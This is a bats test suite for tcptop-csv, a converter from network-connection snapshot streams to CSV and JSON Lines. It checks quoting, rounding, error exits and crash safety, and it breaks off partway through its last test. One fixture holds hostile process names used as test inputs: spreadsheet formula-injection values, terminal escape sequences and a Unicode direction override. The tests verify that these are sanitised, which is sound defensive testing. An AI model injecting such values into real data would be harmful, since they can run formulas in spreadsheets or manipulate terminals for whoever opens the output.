#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# tcptop-csv: snapshot streams from the generator to CSV and JSON Lines, read back by two
# independent parsers (Python's csv module and csvcheck, built on libcsv's strict parser).

load test_helper/common
load test_helper/stall

CSVCHECK="$OUTPUT/tests/csvcheck"
FIXED='timestamp,protocol,local_addr,local_port,remote_addr,remote_port,pid,process_name,state,bytes_in,bytes_out,packets_in,packets_out,rate_in_bytes_sec,rate_out_bytes_sec,rtt_us'
# the loss codes lib/stream.h added after host, in loss_kinds[] order
LOSS_MORE='loss_kprobe_missed,loss_walk_failed,loss_owners_full,loss_udp_peers_evicted,loss_agg_names_full,loss_agg_loss_other'
LIMIT_COLS='limit,limit_pct'
FIGS_COLS='busy_ms,rwnd_limited_ms,sndbuf_limited_ms,cwnd,ssthresh,in_flight,unsent_bytes,reordering,delivery_rate_bytes_sec,min_rtt_us,rttvar_us,retrans_bytes,lost'

# Two snapshots: TCP and UDP, IPv4 and IPv6, an unowned connection, flags, loss counters.
basic_script() {
	cat <<'S'
header kind=snapshot real=1700000000 interval=1
snap seq=1 time=1700000001.25 ringbuf=3 flow_evicted=1
row flow=1 proto=tcp src=10.0.0.1:40000 dst=93.184.216.34:443 pid=100 comm=curl state=ESTABLISHED in=4000 out=512 pin=5 pout=4 rtt=1234 retrans=2 rate_in=4000 rate_out=512.125 ifname=eth0 if=2 new
row flow=2 proto=udp src=[2001:db8::1]:53 dst=[2001:db8::2]:5353 pid=200 comm=resolver in=64 out=32 pin=1 pout=1 rate_in=2.675 rate_out=0.005 if=0 netns=4026532000
row flow=3 proto=tcp src=[::ffff:127.0.0.1]:22 dst=[::ffff:127.0.0.1]:50000 state=LISTEN noowner begun
snapend
snap seq=2 time=1700000002.25 ringbuf=5 flow_evicted=1 agg_gap=2
row flow=1 proto=tcp src=10.0.0.1:40000 dst=93.184.216.34:443 pid=100 comm=curl state=CLOSE in=9000 out=1024 pin=9 pout=8 rtt=1000 retrans=3 rate_in=5000 rate_out=512 ifname=eth0 if=2 closed
snapend
end t=2.25
S
}

# Process names a hostile user can give (15 bytes at most, as the kernel keeps them), each with
# the sanitised form the page documents.
hostile_script() {
	local i=0 name
	echo "header kind=snapshot"
	echo "snap seq=1 time=1700000001"
	while IFS= read -r name; do
		i=$((i + 1))
		echo "row flow=$i pid=$i comm=\"$name\" ifname=\"$name\""
	done <<'N'
a,b
q\"uo\"te
l\nf
c\rr
t\tab
\x1b[31mred\x1b[0m
\x1b]0;title\x07
bad\xff\xfeutf
=1+2
+cmd
-bash
@SUM(A1)
sp ace
back\\slash
\xe2\x80\xaeevil
caf\xc3\xa9
\xc2\x9b1m
N
	echo "snapend"
	echo "end"
}

# The sanitised forms of hostile_script's names, in order.
hostile_expected() {
	cat <<'E'
a,b
q"uo"te
l\x0Af
c\x0Dr
t\x09ab
\x1B[31mred\x1B[0m
\x1B]0;title\x07
bad\xFF\xFEutf
=1+2
+cmd
-bash
@SUM(A1)
sp ace
back\\slash
\u{202E}evil
café
\u{009B}1m
E
}

# py_tsv FILE: Python's csv module's reading of FILE, one record a line, fields joined by TAB.
py_tsv() {
	python3 -c '
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8", errors="strict") as f:
    for row in csv.reader(f, strict=True):
        print("\t".join(row))' "$1"
}

# both_parsers FILE: csvcheck and Python read FILE the same, every record with >= 16 fields.
both_parsers() {
	"$CSVCHECK" --min-fields 16 "$1" >"$1.libcsv" || fail "csvcheck rejects $1"
	py_tsv "$1" >"$1.py" || fail "python's csv module rejects $1"
	diff "$1.libcsv" "$1.py" || fail "libcsv and python read $1 differently"
}

@test "--help lists every option with its default; --version; bad usage is 64" {
	run -0 tcptop-csv --help
	assert_line --partial "usage: tcptop-csv"
	for opt in --output --format --group --excel-safe --crlf --resolve --dns-server --help \
		--version; do
		assert_output --partial -- "$opt"
	done
	assert_output --partial "(default csv)"
	assert_output --partial "(default LF)"
	run -0 tcptop-csv -h
	assert_line --partial "usage: tcptop-csv"
	run -0 tcptop-csv --version
	assert_output "tcptop-csv $(sed -n 's/^VERSION := //p' "$TCPTOP_SRC/Makefile")"
	run -64 tcptop-csv --bogus </dev/null
	assert_output --partial "usage: tcptop-csv"
	run -64 tcptop-csv --format xml </dev/null
	assert_output --partial "--format xml: invalid"
	run -64 tcptop-csv a b
	assert_output --partial "one input at most"
	run -64 tcptop-csv -f jsonl --excel-safe </dev/null
	assert_output --partial "CSV only"
	run -64 tcptop-csv -o "" </dev/null
	assert_output --partial "--output: empty"
	# a terminal is no snapshot stream (script(1) gives it one)
	run -0 script -qec "$OUTPUT/tcptop-csv; echo status=\$?" /dev/null </dev/null
	assert_output --partial "standard input is a terminal"
	assert_output --partial "status=64"
}

@test "--help's exit statuses are lib/contract.c's for tcptop-csv, and tcptop-csv(1) lists exactly them" {
	exit_statuses_agree tcptop-csv tcptop-csv.1
}

@test "header row: the 16 fixed columns in order, then the documented extras" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	run -0 tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt"
	[[ "${lines[0]}" == "$FIXED,"* ]] || fail "header: ${lines[0]}"
	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host,$LOSS_MORE,$LIMIT_COLS"
	# every column of the header is documented in the man page's OUTPUT section
	local page col
	page=$(MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx)
	for col in $(tr ',' ' ' <<<"${lines[0]}"); do
		grep -qE "^ +.*\b$col\b" <<<"$page" || fail "column $col is not in tcptop-csv(1)"
	done
}

@test "python's csv module and libcsv read the generated numbers back, one timestamp per snapshot" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/s.csv"
	both_parsers "$BATS_TEST_TMPDIR/s.csv"
	run -0 python3 - "$BATS_TEST_TMPDIR/s.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == 4, len(rows)
def check(r, **want):
    for k, v in want.items():
        assert r[k] == v, (k, r[k], v)
r = rows[0]
check(r, timestamp="2023-11-14T22:13:21.250Z", protocol="tcp", local_addr="10.0.0.1",
      local_port="40000", remote_addr="93.184.216.34", remote_port="443", pid="100",
      process_name="curl", state="ESTABLISHED", bytes_in="4000", bytes_out="512",
      packets_in="5", packets_out="4", rate_in_bytes_sec="4000.00",
      rate_out_bytes_sec="%.2f" % 512.125, rtt_us="1234", retransmits="2", interface="eth0",
      ifindex="2", netns="4026531840", closed="0", begun_before="0", new="1", snapshot_seq="1",
      partial="0", loss_ringbuf="3", loss_flow_table_full="0", loss_flow_evicted="1",
      loss_agg_table_full="0", loss_agg_unknown_flow="0", loss_agg_gap="0")
# UDP: no state, RTT or retransmits; unknown interface: empty
check(rows[1], protocol="udp", local_addr="2001:db8::1", local_port="53",
      remote_addr="2001:db8::2", remote_port="5353", pid="200", process_name="resolver",
      state="", rtt_us="", retransmits="", interface="", ifindex="", netns="4026532000",
      bytes_in="64", bytes_out="32", rate_in_bytes_sec="%.2f" % 2.675,
      rate_out_bytes_sec="%.2f" % 0.005)
# no owner yet: pid and name empty; IPv4-mapped shown as IPv4; TCP without RTT: empty
check(rows[2], local_addr="127.0.0.1", remote_addr="127.0.0.1", pid="", process_name="", state="LISTEN", rtt_us="",
      retransmits="0", begun_before="1", new="0")
check(rows[3], timestamp="2023-11-14T22:13:22.250Z", state="CLOSE", bytes_in="9000",
      closed="1", snapshot_seq="2", loss_ringbuf="5", loss_agg_gap="2",
      rate_out_bytes_sec="512.00")
stamps = {}
for r in rows:
    assert len(r) >= 16 and None not in r, r
    stamps.setdefault(r["snapshot_seq"], set()).add(r["timestamp"])
assert all(len(s) == 1 for s in stamps.values()), stamps
assert len({min(s) for s in stamps.values()}) == 2, stamps
PY
}

@test "rates are rounded to 2 decimals as printf rounds them, ties and large values included" {
	{
		echo "header kind=snapshot"
		echo "snap seq=1"
		python3 -c '
vals = [i / 8 for i in range(0, 400)] + [i * 0.005 for i in range(0, 400)] + \
       [1e9 + 0.125, 123456789012.345, 0.994999, 0.995, 99.995, 4503599627370495.5, \
        1e300, 1.7976931348623157e308 / 4]
for i, v in enumerate(vals):
    print("row flow=%d rate_in=%r rate_out=%r" % (i + 1, v, v * 3))'
		echo "snapend"
		echo "end"
	} | "$GEN" >"$BATS_TEST_TMPDIR/r.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/r.tcpt" >"$BATS_TEST_TMPDIR/r.csv"
	run -0 python3 - "$BATS_TEST_TMPDIR/r.csv" <<'PY'
import csv, sys
vals = [i / 8 for i in range(0, 400)] + [i * 0.005 for i in range(0, 400)] + \
       [1e9 + 0.125, 123456789012.345, 0.994999, 0.995, 99.995, 4503599627370495.5, \
        1e300, 1.7976931348623157e308 / 4]
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == len(vals)
bad = [(v, r["rate_in_bytes_sec"], r["rate_out_bytes_sec"]) for v, r in zip(vals, rows)
       if r["rate_in_bytes_sec"] != "%.2f" % v or r["rate_out_bytes_sec"] != "%.2f" % (v * 3)]
assert not bad, bad[:10]
PY
}

@test "hostile process and interface names come out sanitised as documented, and parse" {
	hostile_script | "$GEN" >"$BATS_TEST_TMPDIR/h.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/h.tcpt" >"$BATS_TEST_TMPDIR/h.csv"
	both_parsers "$BATS_TEST_TMPDIR/h.csv"
	# the file itself: valid UTF-8, no control byte but the line ends
	run -0 python3 -c '
import sys
data = open(sys.argv[1], "rb").read()
data.decode("utf-8", errors="strict")
bad = [b for b in data if (b < 0x20 and b != 0x0A) or b == 0x7F]
assert not bad, bad' "$BATS_TEST_TMPDIR/h.csv"
	hostile_expected >"$BATS_TEST_TMPDIR/want"
	# process_name is field 8, interface field 18, in both parsers' readings
	tail -n +2 "$BATS_TEST_TMPDIR/h.csv.py" | cut -f 8 >"$BATS_TEST_TMPDIR/names.py"
	tail -n +2 "$BATS_TEST_TMPDIR/h.csv.libcsv" | cut -f 8 >"$BATS_TEST_TMPDIR/names.libcsv"
	tail -n +2 "$BATS_TEST_TMPDIR/h.csv.py" | cut -f 18 >"$BATS_TEST_TMPDIR/ifnames.py"
	diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/names.py"
	diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/names.libcsv"
	diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/ifnames.py"
	# quoting: commas, quotes and spaces quoted, quotes doubled; formulas left alone by default
	run -0 cat "$BATS_TEST_TMPDIR/h.csv"
	assert_output --partial ',"a,b",'
	assert_output --partial ',"q""uo""te",'
	assert_output --partial ',"sp ace",'
	assert_output --partial ',=1+2,'
	assert_output --partial ',-bash,'
	refute_output --partial "'"
}

@test "--excel-safe prefixes ' to cells a spreadsheet would run, and only to those" {
	hostile_script | "$GEN" >"$BATS_TEST_TMPDIR/h.tcpt"
	tcptop-csv --excel-safe "$BATS_TEST_TMPDIR/h.tcpt" >"$BATS_TEST_TMPDIR/x.csv"
	both_parsers "$BATS_TEST_TMPDIR/x.csv"
	hostile_expected | sed -E "s/^([=+@-])/'\1/" >"$BATS_TEST_TMPDIR/want"
	tail -n +2 "$BATS_TEST_TMPDIR/x.csv.py" | cut -f 8 >"$BATS_TEST_TMPDIR/names"
	diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/names"
	tail -n +2 "$BATS_TEST_TMPDIR/x.csv.py" | cut -f 18 >"$BATS_TEST_TMPDIR/ifnames"
	diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/ifnames"
	run -0 cat "$BATS_TEST_TMPDIR/x.csv"
	assert_output --partial ",\"'=1+2\","
	assert_output --partial ",\"'-bash\","
	# no cell of the file starts with a formula character
	run -0 python3 -c '
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell' "$BATS_TEST_TMPDIR/x.csv"
	# numbers are untouched: the rest of the row is as without the option
	tcptop-csv "$BATS_TEST_TMPDIR/h.tcpt" >"$BATS_TEST_TMPDIR/plain.csv"
	py_tsv "$BATS_TEST_TMPDIR/plain.csv" | cut -f 1-7,9-17,19- >"$BATS_TEST_TMPDIR/a"
	cut -f 1-7,9-17,19- "$BATS_TEST_TMPDIR/x.csv.py" >"$BATS_TEST_TMPDIR/b"
	diff "$BATS_TEST_TMPDIR/a" "$BATS_TEST_TMPDIR/b"
}

@test "--crlf ends every line with CR LF and both parsers read the same table" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/lf.csv"
	tcptop-csv --crlf "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/crlf.csv"
	both_parsers "$BATS_TEST_TMPDIR/crlf.csv"
	[ "$(grep -c $'\r$' "$BATS_TEST_TMPDIR/crlf.csv")" -eq 5 ]
	[ "$(grep -c $'\r' "$BATS_TEST_TMPDIR/lf.csv")" -eq 0 ]
	tr -d '\r' <"$BATS_TEST_TMPDIR/crlf.csv" | cmp - "$BATS_TEST_TMPDIR/lf.csv"
}

@test "--format jsonl: one object a row, the CSV's names in order, the same values" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/a.tcpt"
	hostile_script | "$GEN" >"$BATS_TEST_TMPDIR/b.tcpt"
	cat "$BATS_TEST_TMPDIR/a.tcpt" "$BATS_TEST_TMPDIR/b.tcpt" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/s.csv"
	tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/s.jsonl"
	run -0 python3 - "$BATS_TEST_TMPDIR/s.csv" "$BATS_TEST_TMPDIR/s.jsonl" <<'PY'
import csv, json, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
header, rows = rows[0], rows[1:]
lines = open(sys.argv[2], encoding="utf-8").read().split("\n")
assert lines[-1] == "" and len(lines) - 1 == len(rows), (len(lines), len(rows))
flags = {"closed", "begun_before", "new", "partial", "failed"}
for line, row in zip(lines, rows):
    obj = json.loads(line)
    assert list(obj) == header, list(obj)
    text = json.loads(line, parse_int=lambda t: ("int", t), parse_float=lambda t: ("float", t))
    for name, cell in zip(header, row):
        v = obj[name]
        if cell == "":
            assert v is None, (name, v)
        elif name in flags:
            assert v is (cell == "1"), (name, v, cell)
        elif isinstance(v, str):
            assert v == cell, (name, v, cell)
        else:  # a JSON number written as the CSV cell
            assert isinstance(v, (int, float)) and not isinstance(v, bool), (name, v)
            assert text[name][1] == cell, (name, text[name], cell)
print(len(rows))
PY
	[ "$output" -eq 21 ]
}

@test "-o FILE overwrites an existing file; - is standard output" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/want.csv"
	head -c 100000 /dev/zero | tr '\0' 'x' >"$BATS_TEST_TMPDIR/out.csv"
	run -0 tcptop-csv -o "$BATS_TEST_TMPDIR/out.csv" "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output ""
	cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/out.csv"
	run -0 tcptop-csv --output - "$BATS_TEST_TMPDIR/s.tcpt"
	[ "$output" = "$(cat "$BATS_TEST_TMPDIR/want.csv")" ]
	run -0 bash -c 'tcptop-csv --output="$1" <"$2"' _ "$BATS_TEST_TMPDIR/o2.csv" "$BATS_TEST_TMPDIR/s.tcpt"
	cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/o2.csv"
	# never the input itself (it would be emptied before it is read)
	cp "$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/keep.tcpt"
	run -64 tcptop-csv -o "$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "is the input"
	cmp "$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/keep.tcpt"
	run -64 bash -c 'tcptop-csv -o "$1" <"$1"' _ "$BATS_TEST_TMPDIR/s.tcpt"
	cmp "$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/keep.tcpt"
}

@test "an output that cannot be created: 73, before any input is read" {
	# the input is corrupt: 73 and not 65 shows the output came first
	basic_script | "$GEN" --corrupt-trailer 1 >"$BATS_TEST_TMPDIR/bad.tcpt"
	run -73 tcptop-csv -o "$BATS_TEST_TMPDIR/no/such/dir/out.csv" "$BATS_TEST_TMPDIR/bad.tcpt"
	assert_output --partial "cannot create $BATS_TEST_TMPDIR/no/such/dir/out.csv"
	[ "${#lines[@]}" -eq 1 ]
}

@test "a folder the user cannot write: 73 (Permission denied); the same user in a 0777 folder: 0" {
	skip_unless_setpriv
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	# under /tmp, not the test's own 0700 folder, where nobody could create nothing anyway
	shared=$(shared_dir 755)
	cp "$BATS_TEST_TMPDIR/s.tcpt" "$shared/s.tcpt"
	chmod 644 "$shared/s.tcpt"
	mkdir "$shared/ro" "$shared/rw"
	chmod 555 "$shared/ro"
	chmod 777 "$shared/rw"
	run -73 as_unpriv "$OUTPUT/tcptop-csv" -o "$shared/ro/out.csv" "$shared/s.tcpt"
	ro_output=$output
	run -0 as_unpriv "$OUTPUT/tcptop-csv" -o "$shared/rw/out.csv" "$shared/s.tcpt"
	rw_rows=$(wc -l <"$shared/rw/out.csv")
	ro_exists=$([ -e "$shared/ro/out.csv" ] && echo yes || echo no)
	rm -rf "$shared"
	[[ "$ro_output" == *"cannot create $shared/ro/out.csv: Permission denied"* ]] ||
		fail "read-only folder: $ro_output"
	assert_equal "$ro_exists" no
	[ "$rw_rows" -gt 1 ] || fail "the writable folder got $rw_rows lines"
}

@test "a missing input: 66, and an existing output file is left alone" {
	echo keep >"$BATS_TEST_TMPDIR/out.csv"
	run -66 tcptop-csv -o "$BATS_TEST_TMPDIR/out.csv" "$BATS_TEST_TMPDIR/none.tcpt"
	assert_output --partial "none.tcpt: No such file or directory"
	[ "$(cat "$BATS_TEST_TMPDIR/out.csv")" = keep ]
}

@test "a raw stream or another major version: 65 with the reason and the byte offset" {
	"$GEN" --bulk-raw 2,10 >"$BATS_TEST_TMPDIR/raw.tcpt"
	run -65 tcptop-csv "$BATS_TEST_TMPDIR/raw.tcpt"
	assert_output --partial "this is a raw collector stream: pipe it through tcptop-agg"
	assert_output --partial "at byte"
	basic_script | sed 's/^header kind=snapshot/& major=2/' | "$GEN" >"$BATS_TEST_TMPDIR/v2.tcpt"
	run -65 tcptop-csv "$BATS_TEST_TMPDIR/v2.tcpt"
	assert_output --partial "at byte"
	run -65 bash -c 'echo "timestamp,protocol" | tcptop-csv'
}

@test "corrupt or truncated input: 65 with the byte offset, every earlier row written" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/good.csv"
	# records: 0 header, 1 SNAP_BEGIN, 2-4 rows, 5 SNAP_END, 6 SNAP_BEGIN, 7 row, 8 SNAP_END, 9 END
	basic_script | "$GEN" --corrupt-trailer 7 >"$BATS_TEST_TMPDIR/c7.tcpt"
	run -65 tcptop-csv -o "$BATS_TEST_TMPDIR/c7.csv" "$BATS_TEST_TMPDIR/c7.tcpt"
	assert_output --regexp "record trailer at byte [0-9]+"
	head -n 4 "$BATS_TEST_TMPDIR/good.csv" | cmp - "$BATS_TEST_TMPDIR/c7.csv"
	basic_script | "$GEN" --corrupt-trailer 4 >"$BATS_TEST_TMPDIR/c4.tcpt"
	run -65 tcptop-csv -o "$BATS_TEST_TMPDIR/c4.csv" "$BATS_TEST_TMPDIR/c4.tcpt"
	assert_output --partial "inside snapshot 1"
	head -n 3 "$BATS_TEST_TMPDIR/good.csv" | cmp - "$BATS_TEST_TMPDIR/c4.csv"
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '8s/^@\([0-9]*\) .*/\1/p')
	basic_script | "$GEN" --truncate $((off + 20)) >"$BATS_TEST_TMPDIR/t.tcpt"
	run -65 tcptop-csv -o "$BATS_TEST_TMPDIR/t.csv" "$BATS_TEST_TMPDIR/t.tcpt"
	assert_output --partial "byte $off"
	head -n 4 "$BATS_TEST_TMPDIR/good.csv" | cmp - "$BATS_TEST_TMPDIR/t.csv"
	"$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/t.csv" >/dev/null
}

@test "a row outside a snapshot, or a snapshot inside a snapshot: 65 naming the byte; END inside one: a warning" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	# cut out the first SNAP_BEGIN (record 1), then the first SNAP_END (record 5)
	local o1 o2 o5 o6
	o1=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '2s/^@\([0-9]*\) .*/\1/p')
	o2=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '3s/^@\([0-9]*\) .*/\1/p')
	o5=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '6s/^@\([0-9]*\) .*/\1/p')
	o6=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '7s/^@\([0-9]*\) .*/\1/p')
	{ head -c "$o1" "$BATS_TEST_TMPDIR/s.tcpt"; tail -c +$((o2 + 1)) "$BATS_TEST_TMPDIR/s.tcpt"; } \
		>"$BATS_TEST_TMPDIR/norow.tcpt"
	run -65 tcptop-csv "$BATS_TEST_TMPDIR/norow.tcpt"
	assert_output --partial "SNAP_ROW at byte $o1 outside a snapshot"
	{ head -c "$o5" "$BATS_TEST_TMPDIR/s.tcpt"; tail -c +$((o6 + 1)) "$BATS_TEST_TMPDIR/s.tcpt"; } \
		>"$BATS_TEST_TMPDIR/noend.tcpt"
	run -65 tcptop-csv "$BATS_TEST_TMPDIR/noend.tcpt"
	assert_output --partial "SNAP_BEGIN at byte $o5 inside snapshot 1"
	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host,$LOSS_MORE,$LIMIT_COLS"
	[ "${#lines[@]}" -eq 5 ] # header, 3 rows, the message
	# END inside snapshot 2 (its SNAP_END, record 8, cut out): a warning, its row kept
	local o8 o9
	o8=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '9s/^@\([0-9]*\) .*/\1/p')
	o9=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '10s/^@\([0-9]*\) .*/\1/p')
	{ head -c "$o8" "$BATS_TEST_TMPDIR/s.tcpt"; tail -c +$((o9 + 1)) "$BATS_TEST_TMPDIR/s.tcpt"; } \
		>"$BATS_TEST_TMPDIR/nosnapend.tcpt"
	run -0 tcptop-csv -o "$BATS_TEST_TMPDIR/n.csv" "$BATS_TEST_TMPDIR/nosnapend.tcpt"
	assert_output "tcptop-csv: $BATS_TEST_TMPDIR/nosnapend.tcpt: END at byte $o8 inside snapshot 2: its rows so far are written"
	basic_script | "$GEN" | tcptop-csv | cmp - "$BATS_TEST_TMPDIR/n.csv"
}

@test "input ending without END (producer killed): a warning, every row, exit 0" {
	basic_script | grep -v '^end' | "$GEN" >"$BATS_TEST_TMPDIR/noend.tcpt"
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/good.csv"
	run -0 tcptop-csv -o "$BATS_TEST_TMPDIR/n.csv" "$BATS_TEST_TMPDIR/noend.tcpt"
	assert_output --partial "tcptop-csv: "
	assert_output --partial "END"
	cmp "$BATS_TEST_TMPDIR/good.csv" "$BATS_TEST_TMPDIR/n.csv"
}

@test "concatenated streams: one header row, the rows of both sections" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	hostile_script | "$GEN" >"$BATS_TEST_TMPDIR/h.tcpt"
	cat "$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/h.tcpt" | tcptop-csv >"$BATS_TEST_TMPDIR/c.csv"
	both_parsers "$BATS_TEST_TMPDIR/c.csv"
	[ "$(wc -l <"$BATS_TEST_TMPDIR/c.csv")" -eq $((1 + 4 + 17)) ]
	[ "$(grep -c '^timestamp,' "$BATS_TEST_TMPDIR/c.csv")" -eq 1 ]
}

@test "an empty snapshot stream: the header row alone" {
	printf 'header kind=snapshot\nsnap seq=1\nsnapend\nend\n' | "$GEN" >"$BATS_TEST_TMPDIR/e.tcpt"
	run -0 tcptop-csv "$BATS_TEST_TMPDIR/e.tcpt"
	[ "${#lines[@]}" -eq 1 ]
	[[ "${lines[0]}" == "$FIXED,"* ]]
	run -0 tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/e.tcpt"
	assert_output ""
}

@test "kill -9 while a snapshot is half read: the file holds the complete snapshots only" {
	{
		echo "header kind=snapshot"
		for s in 1 2 3 4; do
			echo "snap seq=$s time=$((1700000000 + s))"
			echo "row flow=1 comm=a in=$s"
			echo "row flow=2 comm=b in=$s"
			echo "snapend"
		done
		echo "end"
	} | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	# up to the middle of snapshot 4's second row (record 15)
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '16s/^@\([0-9]*\) .*/\1/p')
	mkfifo "$BATS_TEST_TMPDIR/in"
	tcptop-csv -o "$BATS_TEST_TMPDIR/k.csv" <"$BATS_TEST_TMPDIR/in" 3>&- &
	pid=$!
	exec 5>"$BATS_TEST_TMPDIR/in"
	head -c $((off + 40)) "$BATS_TEST_TMPDIR/s.tcpt" >&5
	for _ in $(seq 100); do
		[ "$(wc -l <"$BATS_TEST_TMPDIR/k.csv")" -ge 7 ] && break
		sleep 0.1
	done
	kill -9 "$pid"
	wait "$pid" || true
	exec 5>&-
	[ "$(wc -l <"$BATS_TEST_TMPDIR/k.csv")" -eq 7 ]
	[ "$(tail -c 1 "$BATS_TEST_TMPDIR/k.csv" | od -An -c | tr -d ' ')" = '\n' ]
	"$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/k.csv" >/dev/null
	run -0 cut -d, -f 24 "$BATS_TEST_TMPDIR/k.csv"
	assert_output "$(printf 'snapshot_seq\n1\n1\n2\n2\n3\n3')"
}

@test "kill -9 of the pipeline at an arbitrary moment leaves only complete lines" {
	"$GEN" --bulk-snap 300,400 >"$BATS_TEST_TMPDIR/big.tcpt"
	# a slow producer, in 3000-byte pieces that cut records anywhere
	python3 -c '
import sys, time
data = open(sys.argv[1], "rb").read()
for i in range(0, len(data), 3000):
    sys.stdout.buffer.write(data[i:i + 3000]); sys.stdout.flush(); time.sleep(0.0005)
' "$BATS_TEST_TMPDIR/big.tcpt" | tcptop-csv -o "$BATS_TEST_TMPDIR/k.csv" 3>&- &
	pid=$!
	for _ in $(seq 200); do
		[ "$(stat -c %s "$BATS_TEST_TMPDIR/k.csv" 2>/dev/null || echo 0)" -gt 200000 ] && break
		sleep 0.05
	done
	kill -9 "$pid"
	wait "$pid" || true
	lines=$(wc -l <"$BATS_TEST_TMPDIR/k.csv")
	[ "$lines" -gt 1 ] && [ "$lines" -lt $((300 * 400 + 1)) ] || fail "not killed mid-stream: $lines lines"
	[ "$(tail -c 1 "$BATS_TEST_TMPDIR/k.csv" | od -An -c | tr -d ' ')" = '\n' ]
	"$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/k.csv" >/dev/null
}

@test "SIGTERM or SIGINT with a pipe as input: read on to its end, exit 0, nothing lost" {
	"$GEN" --bulk-snap 50,20 >"$BATS_TEST_TMPDIR/s.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/want.csv"
	# the first 5 snapshots (records 1 to 260), then the signal, then the rest
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '262s/^@\([0-9]*\) .*/\1/p')
	for sig in TERM INT; do
		rm -f "$BATS_TEST_TMPDIR/in" "$BATS_TEST_TMPDIR/out.csv"
		mkfifo "$BATS_TEST_TMPDIR/in"
		tcptop-csv -o "$BATS_TEST_TMPDIR/out.csv" <"$BATS_TEST_TMPDIR/in" 3>&- &
		pid=$!
		exec 5>"$BATS_TEST_TMPDIR/in"
		head -c "$off" "$BATS_TEST_TMPDIR/s.tcpt" >&5
		for _ in $(seq 100); do
			[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -ge 251 ] && break
			sleep 0.1
		done
		kill -"$sig" "$pid"
		tail -c +$((off + 1)) "$BATS_TEST_TMPDIR/s.tcpt" >&5
		exec 5>&-
		status=0
		wait "$pid" || status=$?
		[ "$status" -eq 0 ] || fail "SIG$sig: exit $status"
